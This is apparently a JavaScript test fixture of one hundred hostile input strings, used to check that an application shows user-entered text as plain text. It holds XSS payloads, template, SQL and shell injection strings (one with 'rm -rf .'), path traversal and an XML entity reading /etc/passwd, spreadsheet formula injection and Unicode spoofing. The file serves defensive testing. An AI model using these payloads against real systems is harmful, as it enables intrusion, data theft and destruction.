// A hundred texts that people might enter as a name, a title, a description or a file name. Each must show as text, everywhere.
// canary(…) is the function that must never be called; data-canary marks elements that must never come to be.

const long = (s, n) => s.repeat(Math.ceil(n / s.length)).slice(0, n)

/** @type {[string, string][]} what it is, and the text */
const list = [
  // Markup.
  ['script', `<script>canary(1)</script>`],
  ['script that closes others', `</script><script data-canary>canary(2)</script>`],
  ['script in capitals', `<SCRIPT SRC=//canary.invalid/x.js></SCRIPT>`],
  ['script with a slash', `<script/x>canary(4)</script>`],
  ['script split by a null entity', `<scr&#0;ipt>canary(5)</script>`],
  ['image with onerror', `<img src=x data-canary onerror=canary(6)>`],
  ['image with quotes', `"><img src=x data-canary onerror="canary(7)">`],
  ['image with single quotes', `'><img src=x data-canary onerror='canary(8)'>`],
  ['image without spaces', `<img/src=x/data-canary/onerror=canary(9)>`],
  ['image without an end', `<img src=x data-canary onerror=canary(10) `],
  ['svg with onload', `<svg data-canary onload=canary(11)>`],
  ['svg with a script', `<svg data-canary><script>canary(12)</script></svg>`],
  ['svg animation', `<svg data-canary><animate onbegin=canary(13) attributeName=x dur=1s>`],
  ['svg use', `<svg data-canary><use href="data:image/svg+xml,<svg id=x onload=canary(14)>#x"/></svg>`],
  ['svg foreign object', `<svg data-canary><foreignObject><body onload=canary(15)></foreignObject></svg>`],
  ['math', `<math data-canary><mtext><table><mglyph><style><img src onerror=canary(16)>`],
  ['iframe', `<iframe data-canary src="javascript:parent.canary(17)"></iframe>`],
  ['iframe srcdoc', `<iframe data-canary srcdoc="<script>parent.canary(18)</script>"></iframe>`],
  ['object', `<object data-canary data="javascript:canary(19)"></object>`],
  ['embed', `<embed data-canary src="javascript:canary(20)">`],
  ['base', `<base data-canary href="https://canary.invalid/">`],
  ['meta refresh', `<meta data-canary http-equiv="refresh" content="0;url=https://canary.invalid/">`],
  ['link', `<link data-canary rel=stylesheet href="https://canary.invalid/x.css">`],
  ['style', `<style data-canary>*{display:none!important}</style>`],
  ['form', `<form data-canary action="https://canary.invalid/"><input name=password></form>`],
  ['button with formaction', `<button data-canary formaction="javascript:canary(26)">pay</button>`],
  ['details', `<details data-canary open ontoggle=canary(27)>`],
  ['autofocus', `<input data-canary autofocus onfocus=canary(28)>`],
  ['marquee', `<marquee data-canary onstart=canary(29)>sale</marquee>`],
  ['video', `<video data-canary><source onerror=canary(30)></video>`],
  ['template', `<template data-canary><img src=x onerror=canary(31)></template>`],
  ['noscript', `<noscript><p title="</noscript><img src=x data-canary onerror=canary(32)>">`],
  ['comment', `<!--><img src=x data-canary onerror=canary(33)>-->`],
  ['cdata', `<![CDATA[<img src=x data-canary onerror=canary(34)>]]>`],
  ['title end', `</title><img src=x data-canary onerror=canary(35)>`],
  ['textarea end', `</textarea><img src=x data-canary onerror=canary(36)>`],
  ['bold', `<b data-canary>half price</b>`],
  ['an id that shadows', `<a data-canary id=app><a id=app name=href href=x>`],
  ['a slot', `<slot data-canary name=default></slot>`],
  ['a custom element', `<el-button data-canary onclick=canary(40)>buy</el-button>`],

  // Attributes and handlers.
  ['attribute break, double', `" onmouseover="canary(41)" x="`],
  ['attribute break, single', `' onmouseover='canary(42)' x='`],
  ['attribute break, back quote', '` onmouseover=canary(43) x=`'],
  ['style attribute', `" style="position:fixed;inset:0;z-index:9999" x="`],
  ['autofocus attribute', `" autofocus onfocus="canary(45)" x="`],

  // Addresses.
  ['javascript:', `javascript:canary(46)`],
  ['javascript: with a tab', `java\tscript:canary(47)`],
  ['javascript: in capitals', `JaVaScRiPt:canary(48)//`],
  ['data:', `data:text/html,<script>opener.canary(49)</script>`],
  ['a slash too many', `//canary.invalid/half-price`],
  ['markdown link', `[half price](javascript:canary(51))`],
  ['an address', `https://canary.invalid/?<b>&"'`],

  // Templates and code.
  ['mustache', `{{ constructor.constructor('canary(53)')() }}`],
  ['mustache in Vue', `{{ $root.$options }}{{ 7*7 }}`],
  ['v-html', `<p data-canary v-html="'<img src=x onerror=canary(55)>'"></p>`],
  ['v-on', `<p data-canary @click="canary(56)" v-on:mouseover="canary(56)">x</p>`],
  ['template literal', '${canary(57)}'],
  ['Go template', `{{template "T"}}{{.Secret}}{{printf "%s" .}}`],
  ['message format', `{name} @:app.title | {count, plural, other{canary}}`],
  ['message link', `@:{'words.secret'} @.upper:home`],
  ['JSON', `","admin":true,"x":"`],
  ['prototype', `__proto__`],
  ['constructor', `constructor`],
  ['printf', `%s%s%n%x %d 100%`],
  ['replacement', `$& $1 $\` $' $$`],
  ['regular expression', `(a+)+$ [[:alpha:]] .*`],

  // Other languages.
  ['SQL', `'; DROP TABLE sale_sale; --`],
  ['SQL union', `" UNION SELECT password FROM identity_user --`],
  ['SQL like', `%_\\%`],
  ['shell', '$(touch /tmp/canary) `id` ; rm -rf . | cat'],
  ['path', `../../../../etc/passwd`],
  ['path on Windows', `..\\..\\con.png:stream`],
  ['spreadsheet formula', `=HYPERLINK("https://canary.invalid","half price")`],
  ['spreadsheet command', `+cmd|' /C calc'!A0`],
  ['spreadsheet at', `@SUM(1+1)*cmd`],
  ['CSV', `a","b\nc;d\te`],
  ['log line', `x\n{"level":"ERROR","msg":"forged"}`],
  ['header', `x\r\nSet-Cookie: canary=1\r\n\r\n<b>`],
  ['XML entity', `<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;`],
  ['entities', `&lt;b&gt; &amp; &quot; &#39; &nbsp; &#x3c;`],
  ['CSS', `}</style>*{background:url(https://canary.invalid)}/*`],
  ['CSS expression', `expression(canary(82));-moz-binding:url(x)`],

  // Letters.
  ['right to left', `\u202Eecirp flah\u202C 50%`],
  ['bidi isolate', `\u2067<b>\u2066half price\u2069`],
  ['Arabic and Hebrew', `نصف السعر מחצית המחיר`],
  ['zero width', `ha\u200Blf\u200C pri\u200Dce\uFEFF!`],
  ['combining', `Z\u0351\u036B\u0343a\u0328\u0363\u035Cl\u033D\u0342\u035Bg\u0335\u0358\u035Eo\u0316\u0320`],
  ['homoglyph', `Lеvее оffiсiаl`],
  ['fullwidth', `＜script＞canary（89）＜／script＞`],
  ['emoji', `🏮🔥👩‍👩‍👧‍👦🏳️‍🌈 50 %`],
  ['emoji alone', `🦆`],
  ['Chinese', `半价灯笼 <限量> "一百" 件`],
  ['a lone combining letter', `\u0301\u0301`],
  ['line separators', `half\u2028price\u2029now`],
  ['control letters', `half\u0001price\u007Fnow`],
  ['a null', `half\u0000price`],

  // Sizes and emptiness.
  ['very long, no breaks', long('W', 118)],
  ['very long, markup', long('<b data-canary>', 118)],
  ['null', `null`],
  ['undefined', `undefined NaN [object Object] 0 false`],
]

if (list.length !== 100) throw new Error(`${list.length} payloads, not 100`)

export const payloads = list.map(([what, text], i) => ({ n: i + 1, what, text }))
